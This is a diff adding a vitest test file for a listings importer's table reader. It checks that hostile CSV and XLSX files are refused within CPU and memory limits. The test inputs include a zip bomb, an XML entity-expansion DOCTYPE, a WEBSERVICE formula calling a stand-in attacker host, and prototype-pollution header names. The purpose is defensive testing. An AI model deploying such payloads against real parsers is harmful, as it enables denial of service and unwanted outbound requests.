@@ -1,0 +1,116 @@
+import { describe, expect, it } from 'vitest'
+import { ZipFile } from 'yazl'
+
+import { readTable } from '#server/features/listings/import/read-table.ts'
+
+import { cpuTime } from '../../../support/cpu-time.ts'
+
+async function zipped(parts: Readonly<Record<string, Buffer | string>>): Promise<Buffer> {
+  const zip = new ZipFile()
+  for (const [name, text] of Object.entries(parts)) zip.addBuffer(Buffer.from(text as string), name)
+  zip.end()
+  const chunks: Buffer[] = []
+  for await (const chunk of zip.outputStream) chunks.push(chunk as Buffer)
+  return Buffer.concat(chunks)
+}
+
+const workbook = {
+  'xl/workbook.xml':
+    '<workbook xmlns:r="r"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
+  'xl/_rels/workbook.xml.rels':
+    '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>',
+}
+const sheet = (rows: string) => ({
+  ...workbook,
+  'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
+})
+const megabytes = (count: number, text: string) =>
+  text.repeat(Math.ceil((count * 1024 * 1024) / text.length))
+
+const cheap = 3000
+const megabyte = 1024 * 1024
+
+/** Reads a table and measures what that cost. */
+async function refused(bytes: Buffer | string) {
+  const before = { cpu: cpuTime(), rss: process.memoryUsage().rss }
+  const failure = await readTable(Buffer.from(bytes as string), {}).then(
+    () => 'was read',
+    (error: Error) => error.message,
+  )
+  return {
+    failure,
+    cpu: cpuTime() - before.cpu,
+    grown: (process.memoryUsage().rss - before.rss) / megabyte,
+  }
+}
+
+describe('a hostile table is refused within three seconds and without filling the memory', () => {
+  it.each<[string, () => Promise<Buffer> | string, string]>([
+    ['a million columns', () => `${'a,'.repeat(1e6)}\n1\n`, 'is opened and never closed, or a row'],
+    ['a header per column, a million', () => megabytes(9, 'a,'), 'far too long'],
+    ['a quote of 9 MB', () => `a,b\n1,"${megabytes(9, 'x')}`, 'never closed'],
+    ['9 MB of quotes', () => megabytes(9, '"'), ''],
+    ['9 MB of newlines', () => megabytes(9, '\n'), 'too many empty rows'],
+    ['two million short rows', () => `a\n${megabytes(9, '1\n')}`, 'more than 5,000 rows'],
+    ['cells of 9 MB', () => `a\n${megabytes(9, 'x')}`, 'far too long'],
+    [
+      'a bomb of 2 GB of spaces',
+      () => zipped(sheet(`<row>${' '.repeat(200 * megabyte)}</row>`)),
+      'far too large once it is unpacked',
+    ],
+    [
+      'many entities',
+      () =>
+        zipped({
+          ...sheet(''),
+          'xl/sharedStrings.xml':
+            '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]><sst><si><t>&c;</t></si></sst>',
+        }),
+      'not a workbook',
+    ],
+    [
+      'a sheet that never ends',
+      () => zipped(sheet('<row><c t="inlineStr"><is><t>x')),
+      'not a workbook',
+    ],
+    [
+      'a cell in a column far away',
+      () => zipped(sheet('<row><c r="ZZZZ1"><v>1</v></c></row>')),
+      'not a workbook',
+    ],
+    [
+      'a million rows',
+      () => zipped(sheet(megabytes(40, '<row><c><v>1</v></c></row>'))),
+      'more than 5,000 rows',
+    ],
+  ])('%s', async (_, make, says) => {
+    const bytes = await make()
+    const { failure, cpu, grown } = await refused(bytes)
+    expect(failure).toContain(says)
+    expect(failure).not.toBe('was read')
+    expect(cpu).toBeLessThan(cheap)
+    expect(grown).toBeLessThan(150)
+  })
+})
+
+describe('strange but honest tables are read', () => {
+  it('headers that name parts of objects are names like any other', async () => {
+    const { table } = await readTable(Buffer.from('__proto__,constructor,toString\n1,2,3\n'), {})
+    expect(table.headers).toEqual(['__proto__', 'constructor', 'toString'])
+    expect(({} as Record<string, unknown>)['1']).toBeUndefined()
+  })
+
+  it('a formula in a workbook is its stored value, and is never worked out', async () => {
+    const rows =
+      '<row r="1"><c r="A1" t="inlineStr"><is><t>Price</t></is></c><c r="B1" t="inlineStr"><is><t>Date</t></is></c></row>' +
+      '<row r="2"><c r="A2"><f>WEBSERVICE("http://attacker.example")</f><v>1240.1</v></c><c r="B2" t="str"><f>NOW()</f></c></row>' +
+      '<row r="3"><c r="A3"><v>0.30000000000000004</v></c></row>'
+    const { table } = await readTable(await zipped(sheet(rows)), {})
+    expect(table.rows.map(({ cells }) => cells)).toEqual([['1240.1'], ['0.3']])
+  })
+
+  it('NUL and half a character are kept out of the database', async () => {
+    const { table } = await readTable(Buffer.from('a,b\nx\u0000y,2\n'), {})
+    expect(table.rows[0]?.cells[0]).toBe('x\uFFFDy')
+  })
+})
